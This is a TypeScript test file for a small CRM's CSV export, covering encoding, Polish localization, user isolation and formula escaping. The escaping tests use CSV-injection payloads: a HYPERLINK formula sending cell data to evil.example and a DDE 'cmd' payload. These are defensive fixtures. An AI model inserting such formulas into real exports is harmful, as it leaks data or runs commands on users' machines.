// The tables of a user as CSV files.
import { beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { escapeFormula } from '../../src/core/csv.ts';
import type { User } from '../../src/db/generated/client.ts';
import { tableNames } from '../../src/export/tables.service.ts';
import { createUser, dbOf, dom, signedIn, type TestApp, testApp, Visitor } from '../support/app.ts';
import { emptyDatabase } from '../support/database.ts';
import { createRecords, dumpOf } from '../support/records.ts';

vi.setConfig({ testTimeout: 60_000 });

let app: TestApp;
let alice: User;
beforeAll(async () => {
  app = await testApp({ clock: () => new Date('2026-03-31T22:30:00Z') });
});
beforeEach(async () => {
  await emptyDatabase();
  alice = await createUser(app, 'ałice');
});

const addressOf = (name: string) => `/accounts/export/${name}/`;
const read = async (visitor: Visitor, name: string) => (await visitor.get(addressOf(name))).text;

/** The cells of a file in which every non-empty cell is quoted. */
function cellsOf(text: string, delimiter: string): string[][] {
  expect(text[0]).toBe('\ufeff');
  const rows: string[][] = [[]];
  const cell = /"((?:[^"]|"")*)"(,|;|\r\n)|(,|;|\r\n)/gy;
  cell.lastIndex = 1;
  while (cell.lastIndex < text.length) {
    const [found, quoted = '', after = '', bare = ''] = cell.exec(text) ?? [];
    if (found === undefined) throw new Error('This is no CSV');
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if ((after || bare) === '\r\n') rows.push([]);
    else expect(after || bare).toBe(delimiter);
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}

describe('a table', () => {
  test('of contacts contains names and words in the right encoding', async () => {
    const { contact } = await createRecords(app, alice, { first_name: 'Żaneta', notes: 'said "so", and\nmore; =1+1' });
    const db = dbOf(app, alice);
    const more_phones = [{ label: 'work', value: '22 555 01 01' }];
    await db.contact.update({ where: db.key(contact), data: { more_phones, birthday: '1985-05-17' } });
    const response = await (await signedIn(app, alice)).get(addressOf('contacts'));
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; .*mini-crm-.*2026-04-01-contacts\.csv/);
    const [headings = [], row, ...more] = cellsOf(response.text, ',');
    expect(Object.fromEntries(headings.map((heading, at) => [heading, row?.[at]]))).toMatchObject({
      'First name': 'Żaneta',
      'Last name': 'Kowalski',
      Company: 'Stolarnia Dąb',
      Position: 'Stolarz',
      Status: 'Lead',
      Email: 'jan@stolarnia.example',
      Phone: '+48 600 100 200',
      'Phone 2': '22 555 01 01',
      Birthday: '1985-05-17',
      Tags: 'Hurt',
      Notes: 'said "so", and\nmore; =1+1',
    });
    expect(row?.at(-1)).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
    expect(more).toEqual([]);
  });

  test('of companies contains their numbers, notes and tags', async () => {
    await createRecords(app, alice);
    const [headings = [], row] = cellsOf(await read(await signedIn(app, alice), 'companies'), ',');
    expect(headings[0]).toBe('Company');
    for (const cell of ['22 555 01 01', 'biuro@stolarnia.example', '1234563218', 'Dostawy we wtorki.', 'Hurt'])
      expect(row).toContain(cell);
  });

  test('of a Polish user has Polish headings and semicolons', async () => {
    const ewa = await createUser(app, 'ewa', { locale: 'pl' });
    const { task } = await createRecords(app, ewa);
    const at = { completed_at: new Date('2026-03-31T22:05:00Z'), status: 'done' as const };
    await dbOf(app, ewa).task.update({ where: dbOf(app, ewa).key(task), data: at });
    const browser = await signedIn(app, ewa);
    const [headings, row] = cellsOf(await read(browser, 'tasks'), ';');
    expect(headings?.slice(2, 4)).toEqual(['Kontakt', 'Status']);
    expect(row?.slice(0, 5)).toEqual(['Wycena stołu', 'Do piątku.', 'Jan Kowalski', 'Zrobione', 'Zwykły']);
    // It was the next day in her time zone.
    expect([row?.[5], row?.[8]]).toEqual(['2026-01-31', '2026-04-01 00:05']);
    const [, said] = cellsOf(await read(browser, 'interactions'), ';');
    expect(said?.slice(1, 4)).toEqual(['Notatka', 'Jan Kowalski', 'Pytał o stół.']);
  });

  test('escapes formulas', async () => {
    const formula = '=HYPERLINK("http://evil.example?"&A1,"click")';
    const texts = { first_name: formula, last_name: '@SUM(1)', company: "+cmd|' /C calc'!A0", notes: '-2+3+cmd' };
    await createRecords(app, alice, { ...texts, title: formula, content: formula, address: formula });
    const browser = await signedIn(app, alice);
    for (const name of tableNames) {
      const [, row] = cellsOf(await read(browser, name), ',');
      expect(row?.length).toBeGreaterThan(4);
      for (const cell of row ?? []) if (!cell.startsWith('+48 600')) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
      expect(row?.join(), name).toMatch(/'[=+]/);
    }
  });

  test('contains every row in order, however many there are', async () => {
    const { contact } = await createRecords(app, alice);
    await dbOf(app, alice).interaction.createMany({
      data: Array.from({ length: 1200 }, (_, at) => ({ user_id: alice.id, contact_id: contact, content: `no ${at}` })),
    });
    const [, , ...rows] = cellsOf(await read(await signedIn(app, alice), 'interactions'), ',');
    expect(rows.map((row) => row[3])).toEqual(Array.from({ length: 1200 }, (_, at) => `no ${at}`));
  });

  test.each(tableNames)('of %s contains only the user’s own rows, possibly none, and changes nothing', async (name) => {
    const bob = await createUser(app, 'bob');
    await createRecords(app, bob, {
      company: 'Bobsecret',
      first_name: 'Bobsecret',
      content: 'Bobsecret',
      title: 'Bobsecret',
    });
    const before = await dumpOf(bob);
    const text = await read(await signedIn(app, alice), name);
    expect(cellsOf(text, ',')).toHaveLength(1);
    expect(text).not.toMatch(/Bobsecret|user_id|search_text/);
    expect(await dumpOf(bob)).toEqual(before);
    const nobody = await new Visitor(app).get(addressOf(name));
    expect([nobody.status, nobody.headers['location']]).toEqual([
      303,
      `/accounts/login/?next=${encodeURIComponent(addressOf(name))}`,
    ]);
  });

  test('of an unknown name is a 404, and each known one is linked on the page of the data', async () => {
    const browser = await signedIn(app, alice);
    for (const name of ['users', 'ai_calls', '__proto__', '1'])
      expect((await browser.get(addressOf(name))).status).toBe(404);
    const $ = dom(await browser.get('/accounts/data/'));
    for (const name of tableNames) expect($(`main a[href="${addressOf(name)}"]`)).toHaveLength(1);
  });
});

test.each([
  ['=1+1', "'=1+1"],
  ['+cmd|x', "'+cmd|x"],
  ['-1+1', "'-1+1"],
  ['@A1', "'@A1"],
  ['\t=1', "'\t=1"],
  ['＝1+1', "'＝1+1"],
  ['- call again', "'- call again"],
  ['+48-600-100', "'+48-600-100"],
  ['+48 600 100 200', '+48 600 100 200'],
  ['+1 (555) 010-2000', '+1 (555) 010-2000'],
  ['+48-600-100-200', "'+48-600-100-200"],
  ['+48 600 x1', "'+48 600 x1"],
  ["'=1+1", "''=1+1"],
  ['-12,50', '-12,50'],
  ['-5%', '-5%'],
  ['a = b', 'a = b'],
  ["'quoted'", "'quoted'"],
  ['', ''],
])('the text %j is written as %j', (text, cell) => expect(escapeFormula(text)).toBe(cell));
